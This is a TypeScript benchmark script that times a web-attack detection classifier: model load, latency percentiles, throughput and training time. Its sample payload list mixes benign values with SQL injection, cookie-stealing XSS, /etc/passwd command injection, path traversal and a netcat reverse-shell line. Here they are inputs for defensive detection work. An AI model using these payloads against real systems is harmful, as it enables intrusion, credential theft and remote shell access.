// Latency figures for docs/detection.md (a script, not a test): uncached classify p50/p99 in
// µs, payloads per second on one core, explanation latency, model load time and, when
// ../shared is present, training time. Run: npx tsx domain/threat/detection/bench.ts
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { classify, classifyIndex } from './classifier';
import { explain } from './explain';
import { loadModel } from './model-io';
import { runTraining } from './pipeline';

const repo = resolve(import.meta.dirname, '../../..');
const t0 = performance.now();
const model = loadModel();
const loadMs = performance.now() - t0;

// A realistic mix: short parameter values dominate real traffic; attacks are longer.
const payloads = [
  'madrid', '42', "O'Brien", 'alice@example.com', '2024-03-15', 'https://example.com/search?q=shoes&page=2',
  'Please select a drop-down option before you continue.', '{"name": "Alice", "tags": ["a", "b"]}',
  "1' OR '1'='1", "-1' UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables--",
  '<img src=x onerror=alert(document.cookie)>', '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '; cat /etc/passwd',
  '| nc -e /bin/sh 10.0.0.1 4444', '..%252f..%252f..%252fetc%252fpasswd', '....//....//....//windows/win.ini',
];

function percentile(xs: number[], p: number): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor(p * s.length))];
}

for (let i = 0; i < 20_000; i++) classifyIndex(model, payloads[i % payloads.length]); // warm-up (JIT)
const samples: number[] = [];
for (let i = 0; i < 100_000; i++) {
  const p = payloads[i % payloads.length];
  const s = performance.now();
  classify(model, p);
  samples.push((performance.now() - s) * 1000);
}
const n = 200_000;
const tp = performance.now();
for (let i = 0; i < n; i++) classifyIndex(model, payloads[i % payloads.length]);
const perSec = n / ((performance.now() - tp) / 1000);
// CPU time of this process: on a shared machine the wall clock also counts other processes' turns.
const cpu0 = process.cpuUsage();
for (let i = 0; i < n; i++) classifyIndex(model, payloads[i % payloads.length]);
const cpu = process.cpuUsage(cpu0);
const perCpuSec = n / ((cpu.user + cpu.system) / 1e6);
const ex: number[] = [];
for (let i = 0; i < 5_000; i++) {
  const s = performance.now();
  explain(model, payloads[i % payloads.length]);
  ex.push((performance.now() - s) * 1000);
}

const out: Record<string, string> = {
  'model load': `${loadMs.toFixed(0)} ms`,
  'classify p50 (uncached)': `${percentile(samples, 0.5).toFixed(1)} µs`,
  'classify p99 (uncached)': `${percentile(samples, 0.99).toFixed(1)} µs`,
  'throughput (one core)': `${Math.round(perSec).toLocaleString('en')} payloads/s`,
  'throughput per CPU-second (one core)': `${Math.round(perCpuSec).toLocaleString('en')} payloads/s`,
  'explain p50': `${percentile(ex, 0.5).toFixed(1)} µs`,
  'explain p99': `${percentile(ex, 0.99).toFixed(1)} µs`,
};
const dataDir = resolve(repo, '../shared/data/payloads');
if (existsSync(dataDir) && !process.argv.includes('--no-train')) {
  const run = runTraining({ dataDir, benignDir: resolve(repo, 'data/benign'), outDir: resolve(repo, '.data/bench-model'), seed: 1 });
  out['training: load corpus'] = `${run.seconds.load} s`;
  out['training: SGD + quantise'] = `${run.seconds.train} s`;
  out['training: evaluate'] = `${run.seconds.evaluate} s`;
}
for (const [k, v] of Object.entries(out)) process.stdout.write(`${k.padEnd(28)} ${v}\n`);
